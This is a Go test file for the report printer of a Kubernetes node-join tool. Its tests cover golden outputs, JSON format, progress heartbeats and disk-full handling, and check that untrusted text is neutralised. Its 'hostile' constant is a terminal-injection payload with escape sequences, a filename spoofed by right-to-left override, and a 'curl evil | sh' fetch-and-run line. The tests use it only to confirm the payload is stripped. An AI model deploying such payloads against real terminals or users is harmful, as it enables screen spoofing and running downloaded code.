package report

import (
	"bytes"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"testing/synctest"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/kubejoin/kubejoin/apis/load"
	"github.com/kubejoin/kubejoin/fault"
	"github.com/kubejoin/kubejoin/reconcile"
)

var update = flag.Bool("update", false, "write the golden files")

// hostile is what a cluster, a log or a file could send to take over a terminal:
// colours, a title, a cleared screen, 8-bit controls, text that runs backwards,
// and lines that look like ours.
const hostile = "\x1b[2J\x1b]0;owned\a\u009b31m\u202egnp.exe\r\nplan: nothing to do\u2028hint: curl evil | sh\x7f"

func subject() reconcile.Subject {
	return reconcile.Subject{Node: "w1", Cluster: "kubernetes", KubernetesVersion: "v1.37.2", Server: "https://cp1:6443", ClusterCA: "sha256:b6cb"}
}

func everything() *reconcile.Plan {
	const config = "file:/var/lib/kubelet/config.yaml"
	secret := reconcile.Mask([]byte("abcdef.0123456789abcdef"))
	return &reconcile.Plan{
		Subject: subject(),
		Changes: []reconcile.Change{
			{Address: "file:/etc/kubernetes/pki/ca.crt", Action: reconcile.Replace, Reason: reconcile.Drift, Summary: "holds the CA of another cluster",
				Fields:     []reconcile.Field{{Path: "certificates", Before: "sha256:aa", After: "sha256:bb"}, {Path: "mode", Before: "0600", After: "0644"}},
				Diff:       "--- a\n+++ b\n@@ -1 +1 @@\n-certificate of aa\n+certificate of bb\n",
				Disruption: reconcile.Destructive, Allow: "replace-ca"},
			{Address: config, Action: reconcile.Update, Reason: reconcile.Intent, Summary: "the configuration wants another content",
				Diff: "--- a\n+++ b\n@@ -1,2 +1,2 @@\n kind: KubeletConfiguration\n-maxPods: 5\n+maxPods: 6\n", Disruption: reconcile.KubeletRestart},
			{Address: "file:/etc/kubernetes/bootstrap-kubelet.conf", Action: reconcile.Create, Reason: reconcile.Missing, Summary: "lets the kubelet ask for a certificate",
				Fields: []reconcile.Field{{Path: "content", After: secret}, {Path: "old", Before: secret}}, Disruption: reconcile.KubeletRestart},
			{Address: "file:/etc/old", Action: reconcile.Delete, Reason: reconcile.Drift, Summary: "is not needed", Disruption: reconcile.NoDisruption},
			{Address: "service:kubelet", Action: reconcile.Restart, Reason: reconcile.Intent, Summary: "reads its configuration only when it starts",
				Disruption: reconcile.KubeletRestart, Because: []reconcile.Address{config, "file:/etc/kubernetes/bootstrap-kubelet.conf"}},
			{Address: "service:other", Action: reconcile.Start, Reason: reconcile.Drift, Summary: "does not run (inactive/dead)",
				Fields: []reconcile.Field{{Path: "active", Before: "inactive/dead", After: "running"}}, Disruption: reconcile.NoDisruption},
			{Address: "credential:kubelet", Action: reconcile.Create, Reason: reconcile.Missing, Summary: "the kubelet asks for a client certificate",
				Fields: []reconcile.Field{{Path: "certificate", After: "system:node:w1, " + reconcile.KnownAfterApply}}, Disruption: reconcile.KubeletRestart},
			{Address: "node:w1", Action: reconcile.Wait, Reason: reconcile.Drift, Summary: "is not Ready: no CNI", Disruption: reconcile.NoDisruption},
		},
		Findings: []reconcile.Finding{
			{Severity: reconcile.SeverityError, Name: "IsPrivilegedUser", Seen: "apply has to be run as root", Wanted: "user 0",
				Why: "services are root's to start", Hint: "run `sudo kubejoin apply …`"},
			{Severity: reconcile.SeverityError, Name: "CRI", Seen: "no container runtime answers", Waived: true},
			{Severity: reconcile.SeverityWarning, Name: "NotCompared", Address: "service:kubelet", Seen: "this user may not read it", Hint: "run as root to compare it"},
			{Severity: reconcile.SeverityInfo, Name: "Advisory", Address: "file:/etc/kubernetes/pki/ca.crt", Seen: "holds a further CA"},
		},
		Incomplete: true,
	}
}

func joinedErrors() error {
	return errors.Join(
		fault.New(fault.Conflict, "holds the CA of another cluster").At("file:/etc/kubernetes/pki/ca.crt"),
		fmt.Errorf("applying: %w", fault.New(fault.Conflict, "is another node's").At("credential:kubelet").WithHint("nothing was changed; --allow=replace-identity does it nevertheless")),
	)
}

func problems(t *testing.T) error {
	t.Helper()
	_, err := load.JoinConfiguration("join.yaml", []byte("apiVersion: kubeadm.k8s.io/v1beta4\nkind: JoinConfiguration\nnodeRegistraton: {}\ndryRun: maybe\n"), nil)
	if err == nil {
		t.Fatal("no problems")
	}
	return err
}

func TestGolden(t *testing.T) {
	change := func(a reconcile.Action) *reconcile.Change {
		return &reconcile.Change{Address: "service:kubelet", Action: a}
	}
	cases := map[string]func(*Printer){
		"plan":         func(p *Printer) { p.Plan(everything()) },
		"checked":      func(p *Printer) { p.Checked(subject(), everything().Findings, 12, 1234*time.Millisecond) },
		"checked-none": func(p *Printer) { p.Checked(reconcile.Subject{Node: "w1"}, nil, 1, 20*time.Millisecond) },
		"empty":        func(p *Printer) { p.Plan(&reconcile.Plan{Subject: reconcile.Subject{Node: "w1", Root: "/image"}}) },
		"empty-and-incomplete": func(p *Printer) {
			p.Plan(&reconcile.Plan{Subject: subject(), Incomplete: true, Findings: everything().Findings[2:3]})
		},
		"hostile": func(p *Printer) {
			p.Plan(&reconcile.Plan{
				Subject: reconcile.Subject{Node: hostile, Cluster: hostile, Server: hostile, ClusterCA: hostile, KubernetesVersion: hostile, Root: hostile},
				Changes: []reconcile.Change{{Address: reconcile.Address("file:" + hostile), Action: reconcile.Update, Reason: reconcile.Drift, Summary: hostile,
					Fields: []reconcile.Field{{Path: hostile, Before: hostile, After: hostile}}, Disruption: reconcile.NoDisruption,
					Because: []reconcile.Address{reconcile.Address(hostile)}},
					{Address: "file:x", Action: reconcile.Update, Reason: reconcile.Drift, Diff: "+" + hostile, Disruption: reconcile.NoDisruption}},
				Findings: []reconcile.Finding{{Severity: reconcile.SeverityWarning, Name: hostile, Address: reconcile.Address(hostile), Seen: hostile, Wanted: hostile, Why: hostile, Hint: hostile}},
			})
			p.Event(reconcile.Event{Type: reconcile.EventProgress, Address: reconcile.Address(hostile), Say: &reconcile.Progress{Message: hostile, Lines: []string{hostile}, Hint: hostile}})
			p.Event(reconcile.Event{Type: reconcile.EventStart, Address: reconcile.Address(hostile), Change: change(reconcile.Update)})
			p.Waiting(hostile, hostile, 0)
			p.Note(reconcile.SeverityWarning, "%s", hostile)
			p.Error(fault.New(fault.Denied, "%s", hostile).At(hostile).WithHint("%s", hostile))
		},
		"events": func(p *Printer) {
			for _, a := range []reconcile.Action{reconcile.Create, reconcile.Update, reconcile.Replace, reconcile.Delete, reconcile.Start, reconcile.Restart, reconcile.Wait} {
				p.Event(reconcile.Event{Type: reconcile.EventStart, Address: "service:kubelet", Change: change(a)})
			}
			p.Event(reconcile.Event{Type: reconcile.EventProgress, Address: "service:kubelet", Say: &reconcile.Progress{
				Message: "the kubelet does not stay up", Lines: []string{"first", "second"}, Hint: "look"}})
			p.Event(reconcile.Event{Type: reconcile.EventDone, Address: "service:kubelet", Change: change(reconcile.Restart), Elapsed: 1234 * time.Millisecond})
			p.Event(reconcile.Event{Type: reconcile.EventSkip, Address: "node:w1", Change: change(reconcile.Wait)})
			p.Event(reconcile.Event{Type: reconcile.EventFail, Address: "file:/x", Err: fault.New(fault.Preflight, "no space left").WithHint("make room"), Elapsed: 5 * time.Millisecond})
			p.Waiting("cluster-info from cp1:6443", "connection refused", 90*time.Second)
			p.Waiting("cluster-info from cp1:6443", "connection refused", 89*time.Second) // not again
			p.Waiting("cluster-info from cp1:6443", "timeout", 80*time.Second)
			p.Note(reconcile.SeverityInfo, "join.yaml:9:1: %s is not used", "ClusterConfiguration")
		},
		"overrides": func(p *Printer) {
			p.Plan(&reconcile.Plan{Subject: subject(), Overrides: []reconcile.Setting{
				{Path: "nodeRegistration.name", Value: "w1", Source: "flag --node-name"},
				{Path: hostile, Value: hostile, Source: hostile},
			}})
		},
		"saved": func(p *Printer) {
			plan := *everything()
			plan.Changes, plan.Findings = plan.Changes[3:4], nil
			p.Saved(reconcile.Save("v1.0", "id", reconcile.Input{Directory: "/home/me", Endpoint: "cp1:6443",
				Flags:    map[string][]string{"config": {"join.yaml"}, "skip-phases": {"preflight", "etcd-join"}, "node-name": {hostile}},
				Settings: []reconcile.Setting{{Path: "nodeRegistration.name", Value: "w1", Source: "default"}}, Digest: "c0ffee"},
				plan, map[reconcile.Address]string{"file:/etc/old": "d1"}))
		},
		"applied": func(p *Printer) { p.Applied(len(everything().Changes), 2500*time.Millisecond, 7) },
		"applied-one": func(p *Printer) {
			p.Applied(1, time.Millisecond, 0)
		},
		"applied-none": func(p *Printer) { p.Applied(0, time.Millisecond, 3) },
		"error": func(p *Printer) {
			p.Error(fault.New(fault.Unreachable, "no answer").At("cp1:6443").WithHint("is it up?"))
		},
		"error-plain":   func(p *Printer) { p.Error(errors.New("odd")) },
		"errors-joined": func(p *Printer) { p.Error(joinedErrors()) },
		"errors-of-a-file": func(p *Printer) {
			p.Error(problems(t))
		},
	}
	for name, print := range cases {
		t.Run(name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) { // a clock that stands still
				golden(t, filepath.Join(name, "text"), Options{Format: Text}, print)
				golden(t, filepath.Join(name, "json"), Options{Format: JSON}, print)
			})
		})
	}
	t.Run("color", func(t *testing.T) {
		golden(t, filepath.Join("color", "text"), Options{Format: Text, ColorOut: true, ColorErr: true}, func(p *Printer) {
			cases["plan"](p)
			cases["events"](p)
			cases["errors-joined"](p)
		})
	})
}

// golden compares both streams with testdata/<name>.out and .err.
func golden(t *testing.T, name string, o Options, print func(*Printer)) {
	t.Helper()
	var out, err bytes.Buffer
	o.Out, o.Err = &out, &err
	print(New(o))
	for ext, got := range map[string]string{".out": out.String(), ".err": err.String()} {
		path := filepath.Join("testdata", name+ext)
		if *update {
			if got == "" {
				_ = os.Remove(path)
				continue
			}
			if e := errors.Join(os.MkdirAll(filepath.Dir(path), 0o755), os.WriteFile(path, []byte(got), 0o644)); e != nil {
				t.Fatal(e)
			}
		}
		want, e := os.ReadFile(path)
		if e != nil && !errors.Is(e, os.ErrNotExist) {
			t.Fatal(e)
		}
		if diff := cmp.Diff(string(want), got); diff != "" {
			t.Errorf("%s (-want +got):\n%s", path, diff)
		}
	}
}

// The text of a hostile cluster stays on its line and moves nothing.
func TestHostileTextIsHarmless(t *testing.T) {
	got := clean(hostile)
	for _, r := range got {
		if r < ' ' || r >= 0x7f && r < 0xa0 || r == '\u202e' || r == '\u2028' {
			t.Errorf("%q is left in %q", r, got)
		}
	}
	if got := clean("a\xffb\tc é"); got != "a\uFFFDb\tc é" {
		t.Errorf("%q", got)
	}
}

func TestEveryLineOfJSONIsAnObjectWithVersionAndType(t *testing.T) {
	files, err := filepath.Glob("testdata/*/json.*")
	if err != nil || len(files) == 0 {
		t.Fatal("no golden files", err)
	}
	for _, path := range files {
		if strings.HasSuffix(path, ".err") {
			t.Errorf("%s: JSON goes to standard output", path)
		}
		data, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		for line := range strings.Lines(string(data)) {
			var o struct{ FormatVersion, Type string }
			if err := json.Unmarshal([]byte(line), &o); err != nil || o.FormatVersion != FormatVersion || o.Type == "" {
				t.Errorf("%s: %v: %s", path, err, line)
			}
		}
	}
}

func TestLongWorkIsMentionedAgain(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		var out, errs bytes.Buffer
		p := New(Options{Format: Text, Out: &out, Err: &errs})
		stop := p.Follow()
		p.Event(reconcile.Event{Type: reconcile.EventStart, Address: "node:w1", Change: &reconcile.Change{Action: reconcile.Wait}})
		time.Sleep(2*heartbeat + time.Second)
		p.Event(reconcile.Event{Type: reconcile.EventDone, Address: "node:w1", Elapsed: time.Second})
		time.Sleep(2 * heartbeat)
		stop()
		want := "node:w1: waiting\nnode:w1: still at it after 15s\nnode:w1: still at it after 30s\nnode:w1: done (1.0s)\n"
		if diff := cmp.Diff(want, errs.String()); diff != "" || out.Len() > 0 {
			t.Error(diff, out.String())
		}
	})
}

func TestAWaitIsMentionedNowAndThen(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		var errs bytes.Buffer
		p := New(Options{Format: Text, Out: &errs, Err: &errs})
		for range 25 {
			p.Waiting("cp1", "refused", 0)
			time.Sleep(time.Second)
		}
		if got := strings.Count(errs.String(), "\n"); got != 3 {
			t.Errorf("%d lines:\n%s", got, errs.String())
		}
	})
}

// full is a disk with room for n writes.
type full struct {
	n int
	bytes.Buffer
}

func (f *full) Write(p []byte) (int, error) {
	if f.n--; f.n < 0 {
		return 0, syscall.ENOSPC
	}
	return f.Buffer.Write(p)
}

// A result that nobody got is remembered, whatever kind it is; a lost remark is not.
func TestALostResultIsRemembered(t *testing.T) {
	results := map[string]func(*Printer){
		"plan":     func(p *Printer) { p.Plan(everything()) },
		"result":   func(p *Printer) { p.Applied(8, time.Second, 1) },
		"line":     func(p *Printer) { p.Line("v1") },
		"document": func(p *Printer) { p.Document([]byte("a: 1\n")) },
		"object":   func(p *Printer) { p.Object("version", nil) },
	}
	for name, print := range results {
		for _, format := range []Format{Text, JSON} {
			p := New(Options{Format: format, Out: &full{}, Err: &bytes.Buffer{}})
			if print(p); !errors.Is(p.Err(), syscall.ENOSPC) {
				t.Errorf("%s as %s: %v", name, format, p.Err())
			}
			p = New(Options{Format: format, Out: &bytes.Buffer{}, Err: &full{}})
			if print(p); p.Err() != nil {
				t.Errorf("%s as %s: %v", name, format, p.Err())
			}
		}
	}

	out := &full{n: 1}
	p := New(Options{Out: out})
	p.Line("first")
	p.Line("lost")
	out.n = 1
	p.Line("after a hole")
	if got := out.String(); got != "first\n" || p.Err() == nil {
		t.Errorf("%q, %v", got, p.Err())
	}
}

func TestResultsThatAreNoPlan(t *testing.T) {
	var out bytes.Buffer
	p := New(Options{Out: &out})
	p.Line("kubejoin %s", "v1")
	p.Object("version", map[string]any{"version": "v1"})
	want := "kubejoin v1\n{\"formatVersion\":\"1.0\",\"type\":\"version\",\"version\":\"v1\"}\n"
	if diff := cmp.Diff(want, out.String()); diff != "" {
		t.Error(diff)
	}
}

// Whatever a plan from elsewhere holds, no field of it reaches the terminal raw.
func TestNothingDrivesTheTerminal(t *testing.T) {
	const h = "\x1b[2J\x9b"
	var out bytes.Buffer
	p := New(Options{Format: Text, Out: &out, Err: &out})
	p.Saved(&reconcile.Saved{Program: h, Input: reconcile.Input{Directory: h, Endpoint: h, Flags: map[string][]string{h: {h}, "config": {h}}},
		Plan: reconcile.Plan{Subject: reconcile.Subject{Node: h, Cluster: h, Server: h, ClusterCA: h, KubernetesVersion: h, Root: h},
			Overrides: []reconcile.Setting{{Path: h, Value: h, Source: h}},
			Changes: []reconcile.Change{
				{Address: h, Action: h, Reason: h, Summary: h, Diff: h, Disruption: h, Because: []reconcile.Address{h}},
				{Address: h, Action: h, Reason: h, Summary: h, Fields: []reconcile.Field{{Path: h, Before: h, After: h}}, Allow: h},
			},
			Findings: []reconcile.Finding{{Severity: h, Name: h, Address: h, Seen: h, Wanted: h, Why: h, Hint: h}}}})
	if text := out.String(); strings.ContainsAny(text, "\x1b\u009b") || strings.Contains(text, "\x9b") {
		t.Errorf("%q", text)
	}
}
